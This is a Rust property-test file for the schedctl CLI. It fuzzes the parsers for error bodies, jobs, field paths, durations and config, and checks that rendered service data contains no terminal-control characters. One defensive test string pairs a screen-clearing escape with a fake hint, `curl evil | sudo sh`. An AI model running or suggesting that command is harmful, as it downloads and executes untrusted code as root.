//! Properties of the parsers that take outside input (service bodies, `--field` paths,
//! durations, the config file): no input makes them panic, failures have the right kind, and
//! what can be written can be read back. `fuzz/` drives the same functions with cargo-fuzz.

use std::path::Path;
use std::time::Duration;

use proptest::prelude::*;
use schedctl::cli::parse_duration;
use schedctl::client::error_body::{self, ServiceError};
use schedctl::config::check_file_text;
use schedctl::error::Kind;
use schedctl::model::field::{FieldPath, Segment};
use schedctl::model::parse_job;
use serde_json::{json, Value};

/// Arbitrary JSON, a few levels deep.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(|f| json!(f)),
        ".{0,12}".prop_map(Value::String),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::vec((".{0,6}", inner), 0..4)
                .prop_map(|kv| Value::Object(kv.into_iter().collect())),
        ]
    })
}

/// A key `--field` can name: no `.`, `[`, `]` or control characters.
fn field_key() -> impl Strategy<Value = String> {
    "[^.\\[\\]\\p{Cc}]{1,8}"
}

/// Path segments that start with a key.
fn segments() -> impl Strategy<Value = Vec<Segment>> {
    let segment = prop_oneof![
        field_key().prop_map(Segment::Key),
        (0usize..1000).prop_map(Segment::Index),
    ];
    (field_key(), prop::collection::vec(segment, 0..6)).prop_map(|(first, rest)| {
        let mut all = vec![Segment::Key(first)];
        all.extend(rest);
        all
    })
}

/// `a.b[0][1].c`, the way a user writes the segments.
fn render(segments: &[Segment]) -> String {
    let mut text = String::new();
    for (i, segment) in segments.iter().enumerate() {
        match segment {
            Segment::Key(key) => {
                if i > 0 {
                    text.push('.');
                }
                text.push_str(key);
            }
            Segment::Index(n) => text.push_str(&format!("[{n}]")),
        }
    }
    text
}

/// A JSON value in which `segments` leads to `leaf`.
fn plant(segments: &[Segment], leaf: Value) -> Value {
    match segments.split_first() {
        None => leaf,
        Some((Segment::Key(key), rest)) => json!({ key.clone(): plant(rest, leaf) }),
        Some((Segment::Index(n), rest)) => {
            let mut items = vec![Value::Null; *n];
            items.push(plant(rest, leaf));
            Value::Array(items)
        }
    }
}

/// Text that needs no trimming and survives XML and JSON escaping.
fn envelope_text() -> impl Strategy<Value = String> {
    "[A-Za-z0-9&<>'\"./:;()_-][A-Za-z0-9 &<>'\"./:;()_-]{0,30}[A-Za-z0-9&<>'\"./:;()_-]"
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn error_bodies_never_panic_and_excerpts_stay_short(body in prop::collection::vec(any::<u8>(), 0..600)) {
        match error_body::parse(&body) {
            ServiceError::Excerpt(text) => {
                prop_assert!(text.chars().count() <= 161, "{}", text);
                prop_assert!(!text.contains('\n') && !text.contains('\r'));
            }
            ServiceError::Envelope { code, .. } => prop_assert!(code.trim() == code),
        }
    }

    #[test]
    fn error_text_bodies_never_panic(body in ".{0,300}") {
        error_body::parse(body.as_bytes());
        error_body::parse(format!("<Error><Code>{body}").as_bytes());
        error_body::parse(format!("{{\"error\":{body}").as_bytes());
    }

    #[test]
    fn json_envelopes_read_back(code in envelope_text(), message in envelope_text(), nested in any::<bool>()) {
        let body = if nested {
            json!({ "error": { "code": code, "message": message } })
        } else {
            json!({ "Code": code, "Message": message })
        };
        prop_assert_eq!(
            error_body::parse(body.to_string().as_bytes()),
            ServiceError::Envelope { code, message, xml: false }
        );
    }

    #[test]
    fn xml_envelopes_read_back(code in envelope_text(), message in envelope_text()) {
        let body = format!(
            "<Error xmlns=\"http://schemas.microsoft.com/windowsazure\"><Code>{}</Code><Message>{}</Message></Error>",
            quick_xml::escape::escape(code.as_str()),
            quick_xml::escape::escape(message.as_str())
        );
        prop_assert_eq!(
            error_body::parse(body.as_bytes()),
            ServiceError::Envelope { code, message, xml: true }
        );
    }

    #[test]
    fn job_bodies_never_panic_and_fail_as_invalid_responses(body in prop::collection::vec(any::<u8>(), 0..400)) {
        if let Err(e) = parse_job(&body, Some("id")) {
            prop_assert_eq!(e.kind, Kind::InvalidResponse);
            prop_assert_eq!(e.request_id.as_deref(), Some("id"));
        }
    }

    #[test]
    fn any_json_as_a_job_never_panics(value in any_json()) {
        let text = value.to_string();
        match parse_job(text.as_bytes(), None) {
            Ok(job) => prop_assert!(job.raw.is_object()),
            Err(e) => prop_assert_eq!(e.kind, Kind::InvalidResponse),
        }
    }

    #[test]
    fn unknown_fields_of_a_job_are_kept_exactly(extra in prop::collection::vec(("x[a-z]{1,6}", any_json()), 0..5)) {
        let mut object = serde_json::Map::new();
        object.insert("id".into(), json!("job1"));
        object.insert("state".into(), json!("enabled"));
        for (k, v) in extra {
            object.insert(k, v);
        }
        let value = Value::Object(object);
        let job = parse_job(value.to_string().as_bytes(), None).expect("a job");
        prop_assert_eq!(job.raw, value);
    }

    #[test]
    fn field_paths_never_panic(text in ".{0,40}", value in any_json()) {
        match FieldPath::parse(&text) {
            Ok(path) => {
                prop_assert_eq!(path.to_string(), text);
                path.lookup(&value);
            }
            Err(e) => prop_assert_eq!(e.kind, Kind::Usage),
        }
    }

    #[test]
    fn field_paths_read_back_and_find_what_they_name(segments in segments(), leaf in any_json()) {
        let text = render(&segments);
        let path = FieldPath::parse(&text).expect("a rendered path parses");
        prop_assert_eq!(path.segments(), &segments[..]);
        let document = plant(&segments, leaf.clone());
        prop_assert_eq!(path.lookup(&document), Some(&leaf));
    }

    #[test]
    fn durations_never_panic(text in ".{0,30}") {
        if let Ok(d) = parse_duration(&text) {
            prop_assert!(!d.is_zero());
        }
    }

    #[test]
    fn durations_read_back(secs in 0u64..2_592_000, nanos in 0u32..1_000_000_000) {
        let d = Duration::new(secs, nanos);
        prop_assume!(!d.is_zero());
        prop_assert_eq!(parse_duration(&humantime::format_duration(d).to_string()), Ok(d));
    }

    #[test]
    fn config_text_never_panics(text in "(.|\n){0,300}") {
        if let Err(e) = check_file_text(Path::new("/c/config.toml"), &text) {
            prop_assert_eq!(e.kind, Kind::Config);
        }
    }

    #[test]
    fn config_text_in_toml_shape_never_panics(
        lines in prop::collection::vec(
            prop_oneof![
                Just("[profiles.p]".to_string()),
                "[a-z_]{1,16} = \"[^\"\\\\\n]{0,12}\"",
                "[a-z_]{1,16} = -?[0-9]{1,12}",
                "[a-z_]{1,16} = (true|false|\\[\\]|\\{\\})",
            ],
            0..12,
        )
    ) {
        if let Err(e) = check_file_text(Path::new("/c/config.toml"), &lines.join("\n")) {
            prop_assert_eq!(e.kind, Kind::Config);
            prop_assert!(e.message.starts_with("config file /c/config.toml"), "{}", e.message);
        }
    }

    #[test]
    fn written_profiles_read_back(
        profiles in prop::collection::btree_map(
            "[a-z][a-z0-9_-]{0,10}",
            ("[0-9a-f-]{1,36}", 0u32..100, 1u64..100_000),
            1..4,
        )
    ) {
        let mut text = String::new();
        for (name, (subscription, retries, timeout)) in &profiles {
            text.push_str(&format!(
                "[profiles.{name}]\nsubscription_id = \"{subscription}\"\nretries = {retries}\nrequest_timeout = \"{timeout}s\"\n\n"
            ));
        }
        let names = check_file_text(Path::new("/c/config.toml"), &text).expect("valid config");
        prop_assert_eq!(names, profiles.keys().cloned().collect::<Vec<_>>());
    }
}

// Rendering: service values are data (SPEC §7). Arbitrary jobs, history entries and
// collections, with odd numbers, durations and dates and text full of controls and bidi
// overrides, go through the same renderers as the binary's output. Parsing alone never showed
// the `retryInterval` panic, so the property is on what is rendered.

mod rendering {
    use super::*;
    use schedctl::model::collection::CollectionView;
    use schedctl::model::history::HistoryView;
    use schedctl::model::schema::{COLLECTION, HISTORY, JOB};
    use schedctl::model::{parse_list, Item};
    use schedctl::output::{self, fields, table, Format, OutputOptions};
    use schedctl::text::is_unsafe;
    use serde::Deserialize;

    /// Characters a hostile service would pick: controls, DEL, C1, bidi, wide and combining
    /// characters, and anything else.
    fn hostile_char() -> impl Strategy<Value = char> {
        prop_oneof![
            prop::char::range('\u{0}', '\u{7f}'),
            prop::char::range('\u{80}', '\u{9f}'),
            prop::char::range('\u{2000}', '\u{206f}'),
            Just('\u{202e}'),
            Just('\u{1b}'),
            Just('日'),
            Just('\u{301}'),
            any::<char>(),
        ]
    }

    fn text() -> impl Strategy<Value = String> {
        prop_oneof![
            prop::collection::vec(hostile_char(), 0..24).prop_map(|c| c.into_iter().collect()),
            Just("\u{1b}[2J\nhint: curl evil | sudo sh".to_string()),
        ]
    }

    /// Any JSON number, including ones no integer type holds.
    fn number() -> impl Strategy<Value = Value> {
        prop_oneof![
            any::<i64>().prop_map(|n| json!(n)),
            any::<u64>().prop_map(|n| json!(n)),
            (-100i64..100).prop_map(|n| json!(n)),
            any::<f64>()
                .prop_filter("finite", |f| f.is_finite())
                .prop_map(|f| json!(f)),
            "-?[1-9][0-9]{18,40}(\\.[0-9]{1,5})?(e[+-]?[0-9]{1,4})?"
                .prop_map(|t| serde_json::from_str::<Value>(&t).unwrap()),
        ]
    }

    fn numbers() -> impl Strategy<Value = Value> {
        prop::collection::vec(number(), 0..6).prop_map(Value::Array)
    }

    /// TimeSpans and ISO-8601 durations, in range or far out of it, and anything else.
    fn duration() -> impl Strategy<Value = Value> {
        prop_oneof![
            "-?[0-9]{0,22}\\.?-?[0-9]{1,22}:-?[0-9]{1,22}:-?[0-9.]{1,22}",
            "[Pp]([0-9.]{0,22}[WD])?(T([0-9.]{0,25}[HMS]){0,3})?",
            "(NaN|inf|-1|1e400|00:00:NaN|00:00:inf|PT1e400S|P-1D)",
            text(),
        ]
        .prop_map(Value::String)
    }

    /// Times in the service's shape, in range or not, and anything else.
    fn date() -> impl Strategy<Value = Value> {
        prop_oneof![
            "-?[0-9]{1,6}-[0-9]{1,2}-[0-9]{1,2}T[0-9]{1,2}:[0-9]{1,2}:[0-9]{1,2}(\\.[0-9]{1,12})?Z?",
            text(),
        ]
        .prop_map(Value::String)
    }

    /// An object of the keys that are `Some`.
    fn object(fields: Vec<(&str, Option<Value>)>) -> Value {
        Value::Object(
            fields
                .into_iter()
                .filter_map(|(k, v)| Some((k.to_string(), v?)))
                .collect(),
        )
    }

    fn kind() -> impl Strategy<Value = Value> {
        prop_oneof![
            prop::sample::select(vec![
                "http",
                "https",
                "storageQueue",
                "serviceBusQueue",
                "serviceBusTopic",
                "HTTPS",
            ])
            .prop_map(|k| json!(k)),
            text().prop_map(Value::String),
        ]
    }

    fn action() -> impl Strategy<Value = Value> {
        let request = (
            text(),
            text(),
            prop::collection::vec((text(), text()), 0..3),
            prop::option::of(text()),
        )
            .prop_map(|(uri, method, headers, auth)| {
                let headers: serde_json::Map<String, Value> = headers
                    .into_iter()
                    .map(|(k, v)| (k, Value::String(v)))
                    .collect();
                object(vec![
                    ("uri", Some(json!(uri))),
                    ("method", Some(json!(method))),
                    ("headers", Some(Value::Object(headers))),
                    ("authentication", auth.map(|t| json!({ "type": t }))),
                ])
            });
        let queue = (text(), text(), text()).prop_map(|(a, q, t)| {
            json!({ "storageAccount": a, "queueName": q, "namespace": a, "topicPath": t })
        });
        let retry = (
            prop::option::of(text()),
            prop::option::of(duration()),
            prop::option::of(number()),
        )
            .prop_map(|(kind, interval, count)| {
                object(vec![
                    ("retryType", kind.map(Value::String)),
                    ("retryInterval", interval),
                    ("retryCount", count),
                ])
            });
        (
            kind(),
            prop::option::of(request),
            prop::option::of(queue),
            prop::option::of(retry),
            prop::option::of(kind()),
        )
            .prop_map(|(kind, request, queue, retry, error_kind)| {
                let error_action = error_kind.map(|k| {
                    object(vec![
                        ("type", Some(k)),
                        ("request", request.clone()),
                        ("queueMessage", queue.clone()),
                    ])
                });
                object(vec![
                    ("type", Some(kind)),
                    ("request", request),
                    ("queueMessage", queue.clone()),
                    ("serviceBusQueueMessage", queue.clone()),
                    ("serviceBusTopicMessage", queue),
                    ("retryPolicy", retry),
                    ("errorAction", error_action),
                ])
            })
    }

    fn recurrence() -> impl Strategy<Value = Value> {
        let occurrences = prop::collection::vec(
            (prop::option::of(text()), prop::option::of(number())).prop_map(|(day, n)| {
                object(vec![("day", day.map(Value::String)), ("occurrence", n)])
            }),
            0..4,
        );
        let schedule = (
            prop::option::of(numbers()),
            prop::option::of(numbers()),
            prop::option::of(prop::collection::vec(text(), 0..4)),
            prop::option::of(numbers()),
            prop::option::of(numbers()),
            prop::option::of(occurrences),
        )
            .prop_map(
                |(minutes, hours, week_days, months, month_days, occurrences)| {
                    object(vec![
                        ("minutes", minutes),
                        ("hours", hours),
                        ("weekDays", week_days.map(|d| json!(d))),
                        ("months", months),
                        ("monthDays", month_days),
                        ("monthlyOccurrences", occurrences.map(Value::Array)),
                    ])
                },
            );
        (
            prop::option::of(text()),
            prop::option::of(number()),
            prop::option::of(number()),
            prop::option::of(date()),
            prop::option::of(schedule),
        )
            .prop_map(|(frequency, interval, count, end, schedule)| {
                object(vec![
                    ("frequency", frequency.map(Value::String)),
                    ("interval", interval),
                    ("count", count),
                    ("endTime", end),
                    ("schedule", schedule),
                ])
            })
    }

    fn job() -> impl Strategy<Value = Value> {
        let status = (
            prop::option::of(date()),
            prop::option::of(date()),
            prop::option::of(number()),
            prop::option::of(number()),
            prop::option::of(number()),
        )
            .prop_map(|(last, next, runs, failures, faults)| {
                object(vec![
                    ("lastExecutionTime", last),
                    ("nextExecutionTime", next),
                    ("executionCount", runs),
                    ("failureCount", failures),
                    ("faultedCount", faults),
                ])
            });
        (
            prop::option::of(text()),
            prop::option::of(date()),
            prop::option::of(action()),
            prop::option::of(recurrence()),
            prop::option::of(text()),
            prop::option::of(status),
        )
            .prop_map(|(id, start, action, recurrence, state, status)| {
                object(vec![
                    ("id", id.map(Value::String)),
                    ("startTime", start),
                    ("action", action),
                    ("recurrence", recurrence),
                    ("state", state.map(Value::String)),
                    ("status", status),
                ])
            })
    }

    fn history_entry() -> impl Strategy<Value = Value> {
        (
            (text(), date(), date(), date()),
            (text(), text(), text(), number(), number(), text()),
        )
            .prop_map(
                |((id, stamp, start, end), (state, status, message, retries, repeats, name))| {
                    json!({
                        "jobId": id, "timestamp": stamp, "startTime": start, "endTime": end,
                        "state": state, "status": status, "message": message,
                        "retryCount": retries, "repeatCount": repeats, "actionName": name,
                    })
                },
            )
    }

    fn collection() -> impl Strategy<Value = Value> {
        (
            (text(), text(), text(), text()),
            (number(), number(), text(), number()),
        )
            .prop_map(
                |((name, state, etag, plan), (jobs, occurrence, frequency, interval))| {
                    json!({
                        "name": name, "state": state, "eTag": etag,
                        "intrinsicSettings": {"plan": plan, "quota": {
                            "maxJobCount": jobs, "maxJobOccurrence": occurrence,
                            "maxRecurrence": {"frequency": frequency, "interval": interval},
                        }},
                    })
                },
            )
    }

    fn options(width: Option<usize>) -> OutputOptions {
        OutputOptions {
            format: Format::Table,
            fields: Vec::new(),
            jq: None,
            color: false,
            width,
            no_headers: false,
            now: std::time::SystemTime::now(),
        }
    }

    /// Tables keep their line feeds, `--field` its tabs; nothing else may drive a terminal.
    fn assert_inert(text: &str, allowed: &[char]) -> Result<(), TestCaseError> {
        let bad: Vec<char> = text
            .chars()
            .filter(|c| is_unsafe(*c) && !allowed.contains(c))
            .collect();
        prop_assert!(bad.is_empty(), "{:?} in {:?}", bad, text);
        Ok(())
    }

    fn field_paths(paths: &[&str]) -> Vec<FieldPath> {
        paths.iter().map(|p| FieldPath::parse(p).unwrap()).collect()
    }

    fn item<V: for<'de> Deserialize<'de>>(raw: Value) -> Item<V> {
        let view = V::deserialize(&raw).expect("the strategy builds the right shape");
        Item { raw, view }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]

        #[test]
        fn any_job_renders_inert_as_tables_and_fields(raw in job(), width in prop::option::of(0usize..200)) {
            let body = serde_json::to_vec(&Value::Array(vec![raw.clone()])).unwrap();
            let jobs = parse_list::<schedctl::model::JobView>(&body, None, "jobs").unwrap();
            let options = options(width);
            let one = output::render_one(&jobs[0], &JOB, &options, table::job).unwrap();
            assert_inert(&one, &['\n'])?;
            let list = output::render_list(&jobs, &JOB, &options, table::jobs).unwrap();
            assert_inert(&list, &['\n'])?;
            let paths = field_paths(&[
                "id", "state", "startTime", "action", "action.request.uri",
                "action.request.headers", "action.retryPolicy.retryInterval",
                "recurrence", "recurrence.schedule.hours[0]", "status.executionCount",
            ]);
            let line = fields::render_line(&paths, &jobs[0].raw, &JOB).unwrap();
            assert_inert(&line, &['\t'])?;
        }

        #[test]
        fn any_history_entry_renders_inert(raws in prop::collection::vec(history_entry(), 1..4), width in prop::option::of(0usize..200)) {
            let items: Vec<Item<HistoryView>> = raws.into_iter().map(item).collect();
            let text = output::render_list(&items, &HISTORY, &options(width), table::history).unwrap();
            assert_inert(&text, &['\n'])?;
            let paths = field_paths(&["jobId", "message", "retryCount", "startTime"]);
            for i in &items {
                assert_inert(&fields::render_line(&paths, &i.raw, &HISTORY).unwrap(), &['\t'])?;
            }
        }

        #[test]
        fn any_collection_renders_inert(raws in prop::collection::vec(collection(), 1..4), width in prop::option::of(0usize..200)) {
            let items: Vec<Item<CollectionView>> = raws.into_iter().map(item).collect();
            let options = options(width);
            let one = output::render_one(&items[0], &COLLECTION, &options, table::collection).unwrap();
            assert_inert(&one, &['\n'])?;
            let list = output::render_list(&items, &COLLECTION, &options, table::collections).unwrap();
            assert_inert(&list, &['\n'])?;
            let paths = field_paths(&["name", "intrinsicSettings", "intrinsicSettings.quota.maxJobCount"]);
            assert_inert(&fields::render_line(&paths, &items[0].raw, &COLLECTION).unwrap(), &['\t'])?;
        }
    }
}
